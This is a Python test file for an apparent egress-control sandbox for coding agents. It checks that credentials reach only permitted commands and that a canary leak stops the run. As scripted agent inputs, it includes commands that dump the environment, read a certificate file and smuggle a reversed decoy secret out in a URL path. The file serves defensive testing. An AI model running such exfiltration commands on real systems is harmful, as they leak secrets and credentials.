"""Inspected hosts in a whole run, by the commands a person types: the credential, the commands, and a leak."""

import datetime
import http.server
import json
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from ringfence.domain import events as e
from worksite import REPOSITORY, SECRETS, TICKET, Worksite

HOST = "packages.example.internal"
TOKEN = "rft-7Kq2vXw9LmPz4TbN"
DECOY = "decoy-Zt8RwQn5YcVh2JdS"
ASK = "python3 -c \"import urllib.request as u; print(u.urlopen('https://{host}:{port}{path}').read())\""


def _certificate(folder: Path) -> Path:
    """A server's own certificate with its key, which is also the one authority that is trusted."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOST)])
    now = datetime.datetime.now(datetime.UTC)
    day = datetime.timedelta(1)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, now - day, now + day)
    builder = builder.add_extension(x509.SubjectAlternativeName([x509.DNSName(HOST)]), critical=False)
    builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
    made = builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)
    form = serialization.PrivateFormat.PKCS8
    secret = key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption())
    (folder / "authorities.pem").write_bytes(made)
    (folder / "server.pem").write_bytes(made + secret)
    return folder / "server.pem"


@contextmanager
def registry(folder: Path) -> Iterator[tuple[int, list[tuple[str, str]]]]:
    """A host with something private; what it was asked for, and with which credential."""
    asked: list[tuple[str, str]] = []

    class Pages(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append((self.path, self.headers.get("authorization", "")))
            self.send_response(200)
            self.send_header("content-length", "8")
            self.end_headers()
            self.wfile.write(b"packages")

        def log_message(self, *_: object) -> None:
            return

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(_certificate(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
        thread = threading.Thread(target=server.serve_forever, args=(0.1,))
        thread.start()
        yield server.server_address[1], asked
        server.shutdown()
        thread.join()


def prepare(site: Worksite, port: int, *, setup: str) -> None:
    """Boundary and settings: the set-up command and the check named `test` get the credential, the agent nothing."""
    rule = {"host": HOST, "port": port, "purpose": "registry", "cidrs": ["127.0.0.1/32"], "inspect": True,
            "methods": ["GET"], "paths": ["/simple/**"]}  # fmt: skip
    put = {"credential": {"secret": "registry-read", "scheme": "bearer"}}
    test = ["sh", "-c", f"{ASK.format(host=HOST, port=port, path='/simple/test')} && sh check.sh"]
    other = ["sh", "-c", f"! {ASK.format(host=HOST, port=port, path='/simple/lint')}"]
    commands = {
        "toolchains": ["system"],
        "path": ["/usr/bin"],
        "setup": [["sh", "-c", setup]],
        "checks": [
            {"name": "test", "kind": "test", "run": test, "timeout": "120s"},
            {"name": "lint", "kind": "lint", "run": other, "timeout": "120s"},
        ],
    }
    secrets = [*SECRETS, {"name": "registry-read", "purpose": "registry"}, {"name": "decoy", "purpose": "canary"}]
    changes = {
        "network.setup": [{**rule, **put}],
        "network.validation": [{**rule, **put, "commands": ["test"]}],
        "network.agent": [{**rule, "methods": [], "paths": []}],
        "commands.repositories": {REPOSITORY: commands},
        "secrets": secrets,
    }  # fmt: skip
    site.boundary(json.loads(json.dumps(changes)))  # each list written out: aliases are not read
    for name, value in (("registry-read", TOKEN), ("decoy", DECOY)):
        path = site.root / "secrets" / name
        path.touch(mode=0o600)
        path.write_text(value)
    with site.settings_path.open("a") as settings:
        settings.write('[secrets.registry-read]\nfile = "secrets/registry-read"\n')
        settings.write('[secrets.decoy]\nfile = "secrets/decoy"\n')
        settings.write('[egress]\nauthorities = "authorities.pem"\n')
        settings.write(f'[egress.hosts]\n"{HOST}" = ["127.0.0.1"]\n')


def test_each_command_gets_what_its_rule_says_and_no_more(site: Worksite) -> None:
    with registry(site.root) as (port, asked):
        prepare(site, port, setup=ASK.format(host=HOST, port=port, path="/simple/setup"))
        agent = ASK.format(host=HOST, port=port, path="/agent")
        site.story(f"{agent}; env > seen; cat /ringfence/authorities.pem >> seen; rm seen; echo 2 > value.txt")
        code, view = site.run()
        assert (code, view.outcome) == (0, "pull_request"), site.ringfence("show", view.id).stdout
    put = f"Bearer {TOKEN}"
    assert set(asked) == {("/simple/setup", put), ("/simple/test", put), ("/agent", "")}
    events = site.events(view.id)
    decided = [event for event in events if isinstance(event, e.EgressDecided)]
    denied = {(one.role, one.rule) for one in decided if one.decision == "deny"}
    assert denied == {("checks:base", "network.validation"), ("checks:patch", "network.validation")}
    grants = {event.grant for event in events if isinstance(event, e.GrantMinted) and event.purpose == "registry"}
    used = {event.grant for event in events if isinstance(event, e.GrantUsed)}
    ended = {event.grant for event in events if isinstance(event, e.GrantRevoked)}
    assert grants
    assert grants <= used & ended
    shown = site.ringfence("show", view.id, "--network").stdout
    assert "/simple/setup" in shown
    assert "with registry-read" in shown
    rows = json.loads(site.ringfence("show", view.id, "--network", "--json").stdout)
    assert {(row["method"], row["path"], row["credential"]) for row in rows if row["decision"] == "allow"} == {
        ("CONNECT", "", ""), ("GET", "/simple/setup", "registry-read"), ("GET", "/simple/test", "registry-read"),
        ("GET", "/agent", ""),
    }  # fmt: skip
    assert site.ringfence("verify", str(site.state / "bundles" / f"{view.id}.bundle.tar")).returncode == 0
    assert not [name for name, content in site.kept() if TOKEN.encode() in content]


def test_d22_a_run_stops_when_a_canary_wants_to_leave(site: Worksite) -> None:
    with registry(site.root) as (port, asked):
        prepare(site, port, setup="true")
        turned = DECOY[::-1]
        leak = ASK.format(host=HOST, port=port, path=f"/?'+'{turned}'[::-1]+'")
        site.story(f"{leak}; sleep 120; echo 2 > value.txt")
        code, view = site.run()
    assert (code, view.outcome, view.reason) == (7, "stopped", "egress_leak")
    assert [path for path, _ in asked if DECOY in path] == []
    rules = [event.rule for event in site.events(view.id) if isinstance(event, e.EgressDecided)]
    assert "network.content_scan" in rules
    assert DECOY not in site.ringfence("show", view.id, "--network").stdout
    assert TICKET in view.id
